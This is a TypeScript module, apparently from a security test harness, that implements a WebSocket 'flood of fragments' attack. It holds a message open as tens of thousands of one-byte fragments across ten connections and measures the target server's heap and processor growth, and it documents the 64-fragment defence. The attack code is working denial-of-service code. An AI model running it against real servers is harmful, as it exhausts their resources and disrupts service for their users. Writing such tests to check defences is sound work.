// One small message in very many fragments: few bytes on the wire, an object for each of them in memory.
import { basic, mebibytes, readingOf } from '../asking.ts'
import type { Attack } from '../attack.ts'
import { encode } from '../frames.ts'
import { raid } from '../raid.ts'
import { openAll, told } from '../wss.ts'
import type { Wss } from '../wss.ts'

const CONNECTIONS = 10
/** Of one byte each: less than a message may have. */
const FRAGMENTS = 60_000
const EACH_WRITE = 2000
const some = Buffer.concat(Array<Buffer>(EACH_WRITE).fill(encode({ opcode: 0, fin: false, payload: 'x' })))

export const attack: Attack = {
  slug: 'fragments',
  title: 'A flood of fragments',
  from: 'socket',
  defences: ['fragments'],
  about: `On each of ${CONNECTIONS} connections, sends one message of ${FRAGMENTS} bytes as ${FRAGMENTS} fragments of one byte, and never the last one.`,
  why: [
    'A message may come in any number of fragments, so that who sends it need not know its length. A bound on bytes alone does not help: each byte of this message has a frame of its own, which costs 7 bytes to send and more than a hundred to keep, besides the work of reading it. The sum stays below every limit of size.',
    'The defence: at most 64 fragments (messageFragments in /limits), then close code 1008. Nobody who is honest needs more: our clients send none, browsers send none for messages of this size.',
  ],
  source: { name: 'RFC 6455 §5.4 and §10.4', url: 'https://www.rfc-editor.org/rfc/rfc6455#section-5.4' },

  run: (target, signal) =>
    raid(target, signal, async (raid) => {
      const sockets = await openAll(raid, target, CONNECTIONS, { Authorization: basic(target.attacker) })
      const before = await readingOf(target, raid.over)
      const sentBefore = raid.spent.bytes
      const codes = await Promise.all(sockets.map(crumble))
      const after = await readingOf(target, raid.over)
      const [grown, sent] = [after.heapBytes - before.heapBytes, raid.spent.bytes - sentBefore]
      const seconds = after.processorSeconds - before.processorSeconds
      return {
        succeeded: codes.every((code) => code === undefined),
        seen: [
          `${CONNECTIONS} messages in ${FRAGMENTS} fragments: ${told(codes, 'all of them taken, and more is waited for')}`,
          `sent ${mebibytes(sent)}; the server’s heap grew by ${mebibytes(Math.max(0, grown))}, its processor worked for ${seconds.toFixed(2)} s`,
        ],
      }
    }),
}

/** @returns the code that the line was closed with; undefined when the server has read it all and waits for more. @throws Error */
async function crumble({ line, closeCode, frame }: Wss): Promise<number | undefined> {
  await line.write(encode({ fin: false, payload: 'x' }))
  for (let sent = 1; sent < FRAGMENTS; sent += EACH_WRITE) {
    const code = await closeCode(0)
    if (code !== undefined) return code
    await line.write(some)
  }
  // A ping may stand between fragments (RFC 6455 §5.4): its answer says that all before it were read.
  await line.write(encode({ opcode: 9, payload: 'still there?' }))
  for (;;) {
    const next = await frame(5000)
    if (!next && line.ended === undefined) throw new Error('the server did not say in 5 s whether it has read them')
    if (!next) return 1006
    if (next.opcode === 8) return next.payload.readUInt16BE(0)
    if (next.opcode === 10) return undefined
  }
}
